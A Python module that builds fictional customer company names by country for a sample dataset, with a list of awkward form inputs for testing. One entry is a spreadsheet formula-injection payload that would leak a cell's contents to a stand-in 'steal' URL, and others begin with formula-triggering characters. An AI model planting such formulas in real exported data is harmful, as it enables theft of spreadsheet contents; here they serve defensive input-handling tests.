"""Names of the sample's customers, by country.

What belongs here: words. What does not: which customer buys what (accounts.py).
"""

from __future__ import annotations

from random import Random

_FIRST = (
    "Northwind",
    "Harbour",
    "Juniper",
    "Redwood",
    "Silver Lake",
    "Copper",
    "Maple",
    "Granite",
    "Bluebird",
    "Lantern",
    "Cedar",
    "Falcon",
    "Orchard",
    "Summit",
    "Willow",
    "Beacon",
    "Quarry",
    "Meadow",
    "Anchor",
    "Saffron",
    "Cobalt",
    "Prairie",
    "Ember",
    "Tidewater",
    "Hollow Oak",
)
_SECOND = (
    "Software",
    "Media",
    "Analytics",
    "Logistics",
    "Studios",
    "Health",
    "Robotics",
    "Archive",
    "Pictures",
    "Labs",
    "Interactive",
    "Travel",
    "Insurance",
    "Publishing",
    "Foods",
    "Energy",
)
_LOCAL: dict[str, tuple[str, ...]] = {
    "DE": ("Lichtspiel", "Altstadt", "Nordlicht", "Grünwald", "Kupferberg", "Weißenfels"),
    "FR": ("Lumière", "Beaurivage", "Château Clair", "Forêt", "Crémieux", "Sainte-Anne"),
    "ES": ("Estudio Ñandú", "Peña Alta", "Sol y Sombra", "Río Claro"),
    "CH": ("Bergsicht", "Matter", "Zürisee", "Engadin"),
    "GR": ("Αρχείο Θεσσαλονίκης", "Τηλεφωνική Κρήτης", "Ελένη Παππά", "Αιγαίο Ψηφιακή"),
    "KZ": ("Студия Северный Свет", "Квантовые Системы", "Алматы Связь", "Южный Архив"),
    "JP": ("東京修復工房", "富士メディア", "桜スタジオ", "京都美術館", "北海道データ"),
    "CN": ("深蓝科技", "晨光设计", "长江影视"),
    "SG": ("晨星数据", "Merlion Cloud", "Straits Media"),
    "IN": ("Banyan Telecom", "Saraswati Studios", "Monsoon Analytics"),
    "BR": ("São Bento Dados", "Estúdio Ipê", "Maré Alta"),
}
_FORMS: dict[str, tuple[str, ...]] = {
    "US": ("Inc", "LLC", "Co"),
    "GB": ("Ltd", "Ltd", "LLP"),
    "CA": ("Inc", "Ltd"),
    "DE": ("GmbH", "AG", "KG"),
    "FR": ("SARL", "SAS"),
    "ES": ("S.L.", "S.A."),
    "CH": ("AG", "GmbH"),
    "GR": ("ΑΕ", "ΕΠΕ"),
    "KZ": ("ТОО", "АО"),
    "JP": ("株式会社", "合同会社"),
    "CN": ("有限公司",),
    "SG": ("Pte Ltd",),
    "IN": ("Pvt Ltd",),
    "BR": ("Ltda", "S.A."),
}

# What people really type into a form; all of it must come through unchanged and unexecuted.
AWKWARD = (
    '=HYPERLINK("http://example.com/steal?"&A1,"Invoice")',
    "+1-800-FLOWERS Reseller",
    'O\'Brien, "The Printer" & Sons',
    "Zoë’s Café — 24/7 ☕",
    "@home Video",
    "شركة النور للإعلام",
)


def company(dice: Random, country: str, taken: set[str]) -> str:
    """A name that no customer has yet; it is added to `taken`."""
    for _ in range(1000):
        words = _LOCAL.get(country)
        if words is None:
            base = f"{dice.choice(_FIRST)} {dice.choice(_SECOND)}"
        else:
            base = dice.choice(words)
            if base in taken or dice.randrange(3) == 0:
                second = dice.choice(_SECOND)
                base = base if second in base else f"{base} {second}"
        name = f"{base} {dice.choice(_FORMS[country])}" if dice.randrange(4) else base
        if name not in taken:
            taken.add(name)
            return name
    raise RuntimeError(f"no names left for {country}: add words")
